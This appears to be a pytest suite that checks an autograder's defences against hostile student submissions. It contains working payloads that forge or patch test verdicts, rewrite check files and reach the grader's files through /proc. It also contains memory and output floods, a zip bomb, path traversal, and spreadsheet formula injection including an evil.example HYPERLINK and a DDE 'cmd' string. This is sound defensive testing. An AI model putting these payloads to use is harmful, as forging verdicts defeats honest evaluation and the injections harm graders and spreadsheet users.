"""Grading a folder of real submission zips: honest, partial, hostile and broken ones.

The submissions are built from a finished student kit (reference solutions,
notebooks run in quick mode): one with collect_submission.py itself, the
others with the same submission module after changing the student's files
as a student (or an attacker) would.
"""
import csv
import hashlib
import json
import os
import re
import shutil
import signal
import socket
import zipfile
from pathlib import Path

import pytest

from helpers import functions, submission
from helpers.utils import KIT_ROOT
from instructor import grade, grade_report, release, sandbox
from instructor.tests.kit import hostile
from instructor.tests.kit.hostile import pack
from instructor.tests.kit.runner import run_in

pytestmark = pytest.mark.long  # the long tier (pytest --all): see conftest.py

# Seconds of student code per part, and per call (an endless loop costs its function a call's
# time). Honest work needs about 15 s per part and 3 s per call on an idle 2-core machine; both
# are generous so that a busy machine changes no grade.
TIMEOUT = 600
CALL_TIMEOUT = 60

# Hostile submissions against checks that run in the student's process (as they did before
# trusted verdicts). FORGE writes the result file the runner of the checks would write and
# leaves; PATCH rewrites the runner's result objects and pytest's reports in memory; REWRITE
# replaces the check files with ones that pass (and put the originals back when they are
# imported) and dies, so that each part is run again with them.
FORGE = """
import json as _json, os as _os, sys as _sys
_parts = [_a for _a in _sys.argv[1:] if not _a.endswith(".json")]
for _arg in _sys.argv[1:]:
    if _arg.endswith(".json"):
        with open(_arg, "w") as _f:
            _json.dump({_p: {"errors": [], "functions": [
                {"name": "forged", "status": "PASS", "failures": [], "hidden": False}]}
                for _p in _parts}, _f)
_os._exit(0)
"""
PATCH = """
import _pytest.reports as _reports
import helpers.check as _check
_check.FunctionResult.status = property(lambda self: "PASS")
_reports.BaseReport.failed = property(lambda self: False)
"""
REWRITE = """
import base64 as _b64, os as _os, pathlib as _pl
_NAMES = NAMES_HERE
_found = sorted(_pl.Path(__file__).resolve().parent.parent.glob("tests/*/test_*.py"))
if _found and not any(b"FORGED" in _p.read_bytes() for _p in _found):
    for _p in _found:
        _text = "# FORGED\\nimport base64, pathlib, pytest\\n"
        _text += "pathlib.Path(__file__).write_bytes(base64.b64decode(%r))\\n" % (
            _b64.b64encode(_p.read_bytes()).decode())
        for _i, _n in enumerate(_NAMES.get(_p.stem[5:], [])):
            _text += "@pytest.mark.student(%r)\\ndef test_forged_%d():\\n    pass\\n" % (_n, _i)
        _p.write_text(_text)
    _os._exit(1)
"""


def fill_in(release_text, source_text, function):
    """The release file with ``function``'s stub replaced by its reference solution."""
    lines = source_text.splitlines(keepends=True)
    region, inside = [], False
    for index, line in enumerate(lines):
        begin = release.BEGIN.match(line.rstrip("\n"))
        if begin and release.enclosing_function(lines, index, begin["indent"]) == function:
            inside = True
        elif inside and release.END.match(line.rstrip("\n")):
            break
        elif inside:
            region.append(line)
    stub = f'raise NotImplementedError("{function}{submission.STUB_MARK}'
    out = []
    for line in release_text.splitlines(keepends=True):
        out.extend(region if stub in line else [line])
    assert region and len(out) > len(release_text.splitlines()), f"no region or stub for {function}"
    return "".join(out)


def tree_digest(
    root, names=("assignment", "helpers", "tests", "notebooks", "conftest.py", "pytest.ini")
):
    digest = hashlib.sha256()
    for name in names:
        base = Path(root) / name
        for path in sorted([base] if base.is_file() else base.rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                digest.update(str(path.relative_to(root)).encode() + path.read_bytes())
    return digest.hexdigest()


@pytest.fixture(scope="module")
def graded(working_sandbox, finished_kit, student_kit, tmp_path_factory):
    """Build every kind of submission, grade the folder once; returns rows by id and more."""
    folder = tmp_path_factory.mktemp("submissions")
    work = tmp_path_factory.mktemp("work")

    def variant(name, change=None):
        kit = work / name
        shutil.copytree(finished_kit, kit)
        if change:
            change(kit)
        return kit

    def append(relpath, code):
        def change(kit):
            path = kit / relpath
            path.write_text(path.read_text() + "\n" + code)
        return change

    def prepend(relpath, code):
        def change(kit):
            path = kit / relpath
            path.write_text(code + "\n" + path.read_text())
        return change

    # Honest work: the reference, as collect_submission.py writes it.
    kit = variant("ref01")
    result = run_in(
        kit, "collect_submission.py", "ref01", "--name", "Ref Erence", "--out", str(folder)
    )
    assert result.returncode == 0, result.stderr

    # Partial work: the release's stubs with some parts or functions filled in.
    def release_files_with(full=(), functions=()):
        def change(kit):
            for path in (student_kit / "assignment").glob("*.py"):
                shutil.copy(path, kit / "assignment" / path.name)
            for filename in full:
                shutil.copy(KIT_ROOT / "assignment" / filename, kit / "assignment" / filename)
            for filename, function in functions:
                path = kit / "assignment" / filename
                path.write_text(
                    fill_in(
                        path.read_text(), (KIT_ROOT / "assignment" / filename).read_text(), function
                    )
                )
        return change

    pack(
        variant("part01", release_files_with(full=("metrics.py", "model_selection.py"))),
        folder,
        "part01",
    )
    pack(variant("part02", release_files_with(functions=[("metrics.py", "accuracy"),
                                                         ("metrics.py", "confusion_matrix")])),
         folder, "part02")

    # Hostile work.
    pack(
        variant(
            "loop01",
            append(
                "assignment/linear_classifier.py",
                "def svm_loss_naive(W, X, y, reg):\n    while True:\n        pass\n",
            ),
        ),
        folder,
        "loop01",
    )
    pack(variant("exit01", prepend("assignment/model_selection.py", "import sys\nsys.exit(3)\n")),
         folder, "exit01")
    def hostile(code, wrong=False):
        """Stubs (or, with ``wrong``, functions that return None) with ``code`` in metrics.py."""
        def change(kit):
            release_files_with()(kit)
            for path in (kit / "assignment").glob("*.py"):
                text = path.read_text()
                if wrong:
                    stub = r'raise NotImplementedError\(".*?' + re.escape(submission.STUB_MARK)
                    text = re.sub(stub + r'.*?"\)', "return None", text)
                path.write_text(code + "\n" + text if path.name == "metrics.py" else text)
        return change

    names = {p.stem: submission.stubbed_functions(p.read_text())
             for p in (student_kit / "assignment").glob("*.py")}
    pack(variant("forge01", hostile(FORGE)), folder, "forge01")
    pack(variant("patch01", hostile(PATCH)), folder, "patch01")
    pack(variant("rewrite01", hostile(REWRITE.replace("NAMES_HERE", repr(names)), wrong=True)),
         folder, "rewrite01")
    pack(variant("overwrite01", prepend(
        "assignment/metrics.py",
        "import pathlib\n"
        "for _p in pathlib.Path(__file__).resolve().parent.parent.glob('tests/*/test_*.py'):\n"
        "    _p.write_text('def test_everything():\\n    pass\\n')\n")), folder, "overwrite01")
    pack(variant("memory01", prepend("assignment/two_layer_net.py",
                                     "_hoard = [bytearray(2**28) for _ in range(10**6)]\n")),
         folder, "memory01")
    pack(variant("print01", prepend("assignment/fully_connected_networks.py",
                                    "while True:\n    print('x' * 10000)\n")), folder, "print01")

    path = pack(variant("modified01"), folder, "modified01")
    tampered = folder / "tampered.zip"
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(tampered, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "assignment/metrics.py":
                data += b"\n# changed after packaging\n"
            target.writestr(info, data)
    os.replace(tampered, path)

    escape = folder / submission.zip_name("escape01")
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(escape, "w") as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info.filename))
        target.writestr("../../outside.py", "print('escaped')\n")
    (folder / submission.zip_name("corrupt01")).write_bytes(os.urandom(4096))

    # The same id twice: an older honest zip, and a newer zip of stubs whose manifest says dup01
    # but whose file name says other02: the file name's id wins, nothing is replaced.
    pack(variant("dup01"), folder, "dup01", created="2026-01-01T10:00:00+00:00")
    pack(variant("dup01-late", release_files_with()), folder, "dup01", zip_id="other02",
         created="2026-01-02T10:00:00+00:00")

    extra = build_hostile(folder, work, variant, prepend, tmp_path_factory)
    source_before = tree_digest(KIT_ROOT)
    decoy_before = tree_digest(extra["decoy"])
    submissions_before = {p.name: p.read_bytes() for p in folder.iterdir()}
    out = tmp_path_factory.mktemp("gradebook")
    previous_cwd = os.getcwd()
    os.environ["KIT_GRADER_SECRET"] = extra["secret"]
    os.chdir(extra["decoy"])  # the grader runs from a kit: what /proc/<grader>/cwd would show
    try:
        rows = grade.grade_folder(folder, out / "grades.csv", out / "feedback", jobs=2,
                                  timeout=TIMEOUT, memory_mb=4096, progress=False,
                                  call_timeout=CALL_TIMEOUT)
        survivors = hostile_processes(extra["token"])
    finally:
        os.chdir(previous_cwd)
        del os.environ["KIT_GRADER_SECRET"]
        kill_all(hostile_processes(extra["token"]))
        connections = accepted(extra["listeners"])
    with open(out / "grades.csv", newline="") as f:
        csv_rows = list(csv.DictReader(f))
    return {"rows": {row["student_id"]: row for row in rows}, "csv": csv_rows, "out": out,
            "source_before": source_before, "submissions_before": submissions_before,
            "folder": folder, "survivors": survivors, "connections": connections,
            "decoy": extra["decoy"], "decoy_before": decoy_before, "secret": extra["secret"]}


def build_hostile(folder, work, variant, prepend, tmp_path_factory):
    """The zips of issue 12's attacks; returns what the tests need to check them from outside."""
    token = f"kit-reach01-{os.urandom(4).hex()}"
    listeners = open_listeners(tmp_path_factory.mktemp("host-sockets"))
    port, unix_path = listeners[0].getsockname()[1], listeners[1].getsockname()
    pack(
        variant(
            "reach01", prepend("assignment/metrics.py", hostile.reach_out(token, port, unix_path))
        ),
        folder,
        "reach01",
    )
    pack(variant("dump01", prepend("assignment/model_selection.py", hostile.DUMP_SECRETS)),
         folder, "dump01")
    pack(variant("result01", prepend("assignment/metrics.py", hostile.BREAK_RESULT_FILE)),
         folder, "result01")

    def forge(kit):
        hostile.stride_zero_two_layer_net(kit / "saved" / "two_layer_net_best.pt")
    # Another student's id with a time far ahead, a name that is a formula and a forged
    # feedback line, and a saved model of stride-0 views.
    pack(variant("imposter01", forge), folder, "ref01", zip_id="imposter01",
         created="9999-12-31T23:59:59+00:00",
         name='=HYPERLINK("http://evil.example/?q=grades","open me")\nTotal: 100 / 100')
    honest = variant("honest-copy")
    bad_ids = {"traversal01": "../../escaped01", "absolute01": str(work / "absolute01-escaped"),
               "newline01": "newline01\nTotal: 100 / 100", "longid01": "a" * 300,
               "slash01": "slash01/evil"}
    for zip_id, manifest_id in bad_ids.items():
        pack(honest, folder, manifest_id, zip_id=zip_id)
    pack(honest, folder, "longname01", name="N" * 100_000)
    pack(honest, folder, "fileslist01", files=[])
    hostile.pack_raw_manifest(honest, folder, "deep01", hostile.deep_manifest(honest))
    hostile.many_entries_zip(folder / "ref01_submission.zip", folder / "entries01_submission.zip")
    bomb = hostile.zeros_deflated(2**31 - 2**24)
    hostile.lying_zip(folder / "bomb01_submission.zip", submission.MANIFEST, bomb, 1024)
    for bad_name in ("..evil", "bad\nname", "=cmd|' -C calc'!A0"):
        shutil.copy(folder / "ref01_submission.zip", folder / submission.zip_name(bad_name))
    decoy = tmp_path_factory.mktemp("instructor") / "kit"
    shutil.copytree(KIT_ROOT / "assignment", decoy / "assignment")
    shutil.copytree(KIT_ROOT / "helpers", decoy / "helpers",
                    ignore=shutil.ignore_patterns("__pycache__"))
    return {"token": token, "listeners": listeners, "decoy": decoy,
            "secret": f"grader-secret-{os.urandom(6).hex()}"}


def open_listeners(folder):
    """A TCP listener on the host's 127.0.0.1 and a unix socket listener in ``folder``."""
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    unix = socket.socket(socket.AF_UNIX)
    unix.bind(str(folder / "host.sock"))
    for listener in (tcp, unix):
        listener.listen(16)
        listener.setblocking(False)
    return [tcp, unix]


def accepted(listeners):
    """How many connections reached each listener; closes them."""
    counts = []
    for listener in listeners:
        count = 0
        while True:
            try:
                listener.accept()[0].close()
                count += 1
            except BlockingIOError:
                break
        listener.close()
        counts.append(count)
    return counts


def hostile_processes(token):
    """Host pids whose command line holds ``token``."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and token.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            pass
    return found


def kill_all(pids):
    """Kill processes a failed test left behind (by pid: only the hostile zip's own)."""
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


def full_parts():
    return json.loads(grade.RUBRIC_PATH.read_text())["parts"]


def test_reference_gets_every_check_point(graded):
    row = graded["rows"]["ref01"]
    for part, points in full_parts().items():
        assert row[part] == points, f"{part}: {row[part]} of {points}; problems: {row['problems']}"
    assert row["problems"] == "" and row["name"] == "Ref Erence"
    assert row["svm_best.pt"] > 0 and row["softmax_best.pt"] > 0, (
        "quick-mode linear models beat 0.30"
    )


def test_partial_work_gets_partial_points(graded):
    parts = full_parts()
    part01, part02 = graded["rows"]["part01"], graded["rows"]["part02"]
    assert (
        part01["metrics"] == parts["metrics"]
        and part01["model_selection"] == parts["model_selection"]
    )
    assert part01["linear_classifier"] == 0 and part01["two_layer_net"] == 0
    assert 0 < part02["metrics"] < parts["metrics"], "two of three metrics functions"
    assert part02["model_selection"] == 0
    assert 0 < part02["total"] < part01["total"] < graded["rows"]["ref01"]["total"]


def test_endless_loop_costs_only_its_function(graded):
    row = graded["rows"]["loop01"]
    assert f"linear_classifier: svm_loss_naive timed out after {CALL_TIMEOUT} s" in row["problems"]
    assert 0 < row["linear_classifier"] < full_parts()["linear_classifier"]
    assert row["metrics"] == full_parts()["metrics"]


def test_exit_at_import_is_reported(graded):
    row = graded["rows"]["exit01"]
    assert ("model_selection: importing assignment/model_selection.py called sys.exit(3) in "
            "assignment/model_selection.py:2 (remove sys.exit() / exit() from your code)"
            ) in row["problems"]
    assert row["model_selection"] == 0
    assert row["metrics"] == full_parts()["metrics"]


def test_overwriting_the_checks_changes_nothing(graded):
    row = graded["rows"]["overwrite01"]
    assert row["problems"] == "" and all(row[p] == v for p, v in full_parts().items()), \
        "the worker's folder holds no check to overwrite: the reference code gets every point"


@pytest.mark.parametrize("student_id", ["forge01", "patch01", "rewrite01"])
def test_forged_verdicts_earn_nothing(graded, student_id):
    row = graded["rows"][student_id]
    assert [row[part] for part in full_parts()] == [0] * len(full_parts()), row


def test_unbounded_memory_is_stopped(graded):
    row = graded["rows"]["memory01"]
    assert "ran out of memory" in row["problems"] and row["two_layer_net"] == 0
    assert row["metrics"] == full_parts()["metrics"]


def test_endless_printing_is_stopped(graded):
    row = graded["rows"]["print01"]
    assert "printed more than" in row["problems"] and row["fully_connected_networks"] == 0
    assert row["linear_classifier"] == full_parts()["linear_classifier"]


def test_a_file_changed_after_packaging_scores_zero(graded):
    row = graded["rows"]["modified01"]
    assert row["total"] == 0
    assert "assignment/metrics.py: modified after packaging" in row["problems"]


def test_paths_out_of_the_zip_score_zero(graded):
    row = graded["rows"]["escape01"]
    assert row["total"] == 0 and "unsafe path in zip: '../../outside.py'" in row["problems"]
    assert not (graded["folder"].parent / "outside.py").exists()


def test_a_corrupt_zip_scores_zero(graded):
    row = graded["rows"]["corrupt01"]
    assert row["total"] == 0 and "corrupt zip" in row["problems"]


def test_the_file_name_id_wins_over_the_manifest(graded):
    dup01, other02 = graded["rows"]["dup01"], graded["rows"]["other02"]
    assert dup01["zip"] == "dup01_submission.zip" and dup01["problems"] == ""
    assert other02["zip"] == "other02_submission.zip" and other02["total"] < dup01["total"]
    assert "the file name says 'other02' but the manifest says 'dup01'" in other02["problems"]


def test_gradebook_and_feedback_files(graded):
    assert {r["student_id"] for r in graded["csv"]} == set(graded["rows"])
    feedback = (graded["out"] / "feedback" / "part02.txt").read_text()
    assert "precision_recall: NOT IMPLEMENTED" in feedback and "accuracy: PASS" in feedback
    assert "saved models:" in feedback


def test_nothing_outside_the_temporary_folders_changed(graded):
    assert tree_digest(KIT_ROOT) == graded["source_before"]
    after = {p.name: p.read_bytes() for p in graded["folder"].iterdir()}
    assert after == graded["submissions_before"]


def test_a_failing_hidden_check_costs_the_whole_share_of_its_function():
    def entry(name, status, hidden):
        return {"name": name, "status": status, "failures": [], "hidden": hidden}

    names = ("accuracy", "confusion_matrix", "precision_recall")
    visible = [entry(n, "PASS", False) for n in names]
    hidden = [entry(n, "FAIL" if n == "confusion_matrix" else "PASS", True) for n in names]
    report = {"metrics": {"errors": [], "functions": visible + hidden}}
    worth = {name: functions.points(name) for name in names}
    assert grade.part_points(report, "metrics") == round(
        float(worth["accuracy"] + worth["precision_recall"]), 2), \
        "two of three functions pass all their checks: their points, not 5/6 of the part"
    assert [(name, earned) for name, earned, _ in grade.function_points(report, "metrics")] == \
        [("accuracy", worth["accuracy"]), ("confusion_matrix", 0),
         ("precision_recall", worth["precision_recall"])]
    report["metrics"]["functions"].append(entry("k_fold_indices_helper", "PASS", True))
    assert grade.part_points(report, "metrics") == round(
        float(worth["accuracy"] + worth["precision_recall"]), 2), \
        "a function the table does not know earns nothing, and takes nothing from the others"


def test_a_rubric_that_disagrees_with_the_table_stops_grading_before_any_zip(tmp_path):
    rubric = json.loads(grade.RUBRIC_PATH.read_text())
    rubric["parts"]["metrics"] += 1
    rubric["parts"]["written_answers"] = 3
    del rubric["parts"]["model_selection"]
    path = tmp_path / "rubric.json"
    path.write_text(json.dumps(rubric))
    zips = tmp_path / "zips"
    zips.mkdir()
    (zips / "s01_submission.zip").write_bytes(b"never opened")
    with pytest.raises(ValueError) as error:
        grade.grade_folder(zips, tmp_path / "out", rubric_path=path)
    message = str(error.value)
    assert "parts.written_answers is no part of the assignment" in message
    assert "parts.model_selection is missing: give it 5 points" in message
    assert "parts.metrics is 6, but its functions' points in helpers/functions.py add up " \
        "to 5: make them agree" in message
    assert not (tmp_path / "out").exists(), "nothing was graded or written"


# ------------------------------------------------------------- issue 12 ---

def feedback_of(graded, student_id):
    return (graded["out"] / "feedback" / f"{student_id}.txt").read_text()


def test_the_grader_kit_is_unreachable_through_proc(graded):
    assert tree_digest(graded["decoy"]) == graded["decoy_before"], "reach01 wrote into the kit"
    row = graded["rows"]["reach01"]
    assert row["metrics"] == full_parts()["metrics"], row["problems"]


def test_no_process_outlives_grading(graded):
    assert graded["survivors"] == [], "a setsid process of reach01 outlived the grading"
    assert graded["rows"]["ref01"]["problems"] == "", "the others are graded as usual"


def test_other_zips_are_unreachable_while_grading(graded):
    after = {p.name: p.read_bytes() for p in graded["folder"].iterdir()}
    assert after == graded["submissions_before"]


def test_host_network_and_unix_sockets_are_unreachable(graded):
    assert graded["connections"] == [0, 0], "reach01 connected to the host (tcp, unix)"


def test_each_zip_is_read_once_and_graded_from_its_bytes(graded, student_kit, tmp_path):
    from instructor.grade_zip import verify_zip

    path = tmp_path / "ref01_submission.zip"
    shutil.copy(graded["folder"] / "ref01_submission.zip", path)
    sub = verify_zip(path)
    expected = dict(sub.members)
    shutil.copy(graded["folder"] / "part02_submission.zip", path)  # swapped after verification
    ctx = grade.Context(tmp_path, student_kit, {}, 10, 1024, secrets=frozenset())
    root, kit = grade.make_kit(ctx, sub)
    for filename in submission.ASSIGNMENT_FILES:
        assert (kit / "assignment" / filename).read_bytes() == expected[f"assignment/{filename}"]
    assert not (kit / "tests").exists(), "the worker's folder holds no check"
    shutil.rmtree(root)


def test_feedback_quotes_no_secret_and_is_capped(graded):
    text = feedback_of(graded, "dump01")
    assert "last output:" in text, "dump01 crashed its part: its output is shown, capped"
    assert max(len(line) for line in text.splitlines()) <= 220
    assert graded["secret"] not in text and "KIT_GRADER_SECRET" not in text
    rubric_about = json.loads(grade.RUBRIC_PATH.read_text())["_about"][:40]
    assert rubric_about not in text and "ref01_submission.zip" not in text
    secrets = grade_report.secret_lines(grade.hidden_sources())
    assert not [line for line in text.splitlines() if any(s in line for s in secrets)]
    for block in text.split("last output:")[1:]:
        assert len([line for line in block.splitlines() if line.startswith("    ")]) <= 15
    row = graded["rows"]["dump01"]
    assert row["metrics"] == full_parts()["metrics"] and row["model_selection"] == 0


def test_hidden_checks_show_only_a_verdict(graded):
    text = feedback_of(graded, "part02")
    hidden = [line for line in text.splitlines() if "hidden check of" in line]
    assert hidden and all(line.split(": ", 1)[1] in ("PASS", "NOT IMPLEMENTED")
                          or grade_report.HIDDEN_FAIL in line for line in hidden)


def test_there_is_no_result_file_to_break(graded):
    row = graded["rows"]["result01"]
    assert row["problems"] == "" and all(row[p] == v for p, v in full_parts().items()), \
        "the worker writes no result: result01's attack on one finds nothing"
    assert {r["student_id"] for r in graded["csv"]} == set(graded["rows"])


def test_a_manifest_naming_someone_else_replaces_nobody(graded):
    ref01, imposter = graded["rows"]["ref01"], graded["rows"]["imposter01"]
    assert ref01["zip"] == "ref01_submission.zip" and ref01["problems"] == ""
    assert imposter["zip"] == "imposter01_submission.zip"
    assert "the file name says 'imposter01' but the manifest says 'ref01'" in imposter["problems"]


def test_bad_manifest_ids_stay_out_of_paths_and_text(graded):
    feedback = graded["out"] / "feedback"
    names = {p.name for p in feedback.iterdir()}
    assert names == {f"{i}.txt" for i in graded["rows"] if submission.valid_student_id(i)} | \
        {n for n in names if n.startswith("_bad-file-name-")}
    assert not list(graded["out"].parent.rglob("escaped01*")) and not list(
        graded["folder"].parent.rglob("absolute01-escaped*"))
    for zip_id in ("traversal01", "absolute01", "newline01", "longid01", "slash01"):
        row = graded["rows"][zip_id]
        assert row["total"] == 0 and "MANIFEST.json is unreadable: 'student_id'" in row["problems"]


def test_no_feedback_line_is_forged(graded):
    for path in (graded["out"] / "feedback").iterdir():
        totals = [line for line in path.read_text().splitlines() if line.startswith("Total:")]
        assert len(totals) == 1, path.name
    totals = [line for line in feedback_of(graded, "imposter01").splitlines()
              if line.startswith("Total:")]
    assert totals == [f"Total: {graded['rows']['imposter01']['total']:g} / 100"]
    assert "\n" not in graded["rows"]["imposter01"]["name"]


def test_one_submission_never_stops_the_others(graded):
    rows = graded["rows"]
    assert rows["fileslist01"]["total"] == 0
    assert "'files' must be an object" in rows["fileslist01"]["problems"]
    assert rows["deep01"]["total"] == 0 and "nested" in rows["deep01"]["problems"]
    assert rows["longid01"]["total"] == 0 and rows["slash01"]["total"] == 0
    assert rows["ref01"]["total"] > 90 and len(graded["csv"]) == len(rows)


def test_a_zip_bomb_is_refused_without_inflating(graded, tmp_path):
    import tracemalloc

    from instructor.grade_zip import verify_zip

    assert graded["rows"]["bomb01"]["total"] == 0
    tracemalloc.start()
    sub = verify_zip(graded["folder"] / "bomb01_submission.zip")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert sub.fatal and peak < 64 * 2**20, f"{peak / 2**20:.0f} MB while verifying"


def test_stride_zero_models_are_refused_before_scoring(graded):
    row = graded["rows"]["imposter01"]
    assert row["two_layer_net_best.pt"] == 0 and row["softmax_best.pt"] > 0
    assert row["two_layer_net"] == full_parts()["two_layer_net"]
    assert "two_layer_net_best.pt: 0 points (could not be scored: W1 is a view" in \
        feedback_of(graded, "imposter01")


def test_many_entries_and_long_names_make_short_cells(graded):
    entries, longname = graded["rows"]["entries01"], graded["rows"]["longname01"]
    assert re.fullmatch(r"100\d\d\d entries, more than the 100 allowed", entries["problems"])
    assert longname["total"] == 0 and "'name' must be text of at most 200" in longname["problems"]
    csv_text = (graded["out"] / "grades.csv").read_text()
    assert max(len(line) for line in csv_text.splitlines()) < 2000


def test_csv_cells_cannot_be_formulas(graded):
    cell = next(r["name"] for r in graded["csv"] if r["student_id"] == "imposter01")
    assert cell.startswith("'=HYPERLINK(") and "\n" not in cell
    starts = [v[:1] for r in graded["csv"] for v in r.values() if isinstance(v, str)]
    assert not set(starts) & set(grade_report.FORMULA_START)


def test_bad_file_names_get_a_zero_row_and_no_path(graded):
    bad = [r for r in graded["rows"].values() if r["student_id"].startswith("(bad file name")]
    assert len(bad) == 3 and all(r["total"] == 0 for r in bad)
    assert all("\n" not in r["student_id"] for r in bad)
    assert len(list((graded["out"] / "feedback").glob("_bad-file-name-*.txt"))) == 3


def test_problems_stop_at_the_first_fatal_one(graded):
    assert graded["rows"]["entries01"]["problems"].count(";") == 0
    assert graded["rows"]["bomb01"]["problems"].count(";") == 0


def test_the_grader_refuses_without_a_sandbox(monkeypatch, tmp_path, capsys):
    monkeypatch.setattr(sandbox, "BWRAP", "bwrap-that-does-not-exist")
    sandbox.unavailable_reason.cache_clear()
    (tmp_path / "x_submission.zip").write_bytes(b"not a zip")
    try:
        code = grade.main([str(tmp_path), "--out", str(tmp_path / "grades.csv")])
    finally:
        monkeypatch.undo()
        sandbox.unavailable_reason.cache_clear()
    err = capsys.readouterr().err
    assert code == 2 and "apt-get install bubblewrap" in err and "--no-sandbox" in err
    assert not (tmp_path / "grades.csv").exists()


def test_no_sandbox_says_what_is_unprotected(capsys, tmp_path):
    code = grade.main([str(tmp_path), "--no-sandbox"])
    err = capsys.readouterr().err
    assert code == 2 and "NOT isolated" in err and "outlive the run" in err


# Appends to the grader's own reference module (found through the worker's parent processes),
# which the trusted check processes import: code that would then run where the verdicts are.
SCORING_ATTACK = """
import os as _os, pathlib as _pl


def _grader_kit(pid):
    for _ in range(6):
        cwd = _pl.Path(f"/proc/{pid}/cwd").resolve()
        if "victim-kit" in str(cwd) and (cwd / "instructor" / "grade.py").is_file():
            return cwd
        pid = int(_pl.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])


try:
    _kit = _grader_kit(_os.getppid())
except (OSError, ValueError, IndexError):
    _kit = None
if _kit:
    _target = _kit / "assignment" / "linear_classifier.py"
    if "PWNED" not in _target.read_text():
        _target.write_text(_target.read_text() + "\\nimport pathlib\\npathlib.Path(__file__)"
                           ".resolve().parent.parent.joinpath('PWNED').write_text('ran')\\n")
"""


@pytest.mark.parametrize("isolation", ["sandbox", "no-sandbox"])
def test_scoring_never_imports_what_student_code_wrote(finished_kit, tmp_path, isolation, request):
    if isolation == "sandbox":
        request.getfixturevalue("working_sandbox")
    victim = tmp_path / "victim-kit"
    shutil.copytree(KIT_ROOT, victim, ignore=shutil.ignore_patterns(
        ".git", "data", "results", "saved", "__pycache__", ".pytest_cache"))
    kit = tmp_path / "student"
    shutil.copytree(finished_kit, kit)
    metrics = kit / "assignment" / "metrics.py"
    metrics.write_text(SCORING_ATTACK + metrics.read_text())
    folder = tmp_path / "submissions"
    folder.mkdir()
    pack(kit, folder, "score01")
    options = ["--no-sandbox"] if isolation == "no-sandbox" else []
    result = run_in(victim, "-m", "instructor.grade", str(folder), "--out", str(tmp_path / "g.csv"),
                    "--jobs", "1", "--timeout", str(TIMEOUT), "--call-timeout",
                    str(CALL_TIMEOUT), "--memory-mb", "4096", *options)
    assert result.returncode == 0, result.stderr[-3000:]
    reached = "PWNED" in (victim / "assignment" / "linear_classifier.py").read_text()
    assert reached == (isolation == "no-sandbox"), \
        "the sandboxed worker cannot reach the grader's files; a plain one (your user) can"
    assert not (victim / "PWNED").exists(), "the grader ran code that a submission wrote"
    with open(tmp_path / "g.csv", newline="") as f:
        row = next(csv.DictReader(f))
    assert float(row["metrics"]) == full_parts()["metrics"], row["problems"]
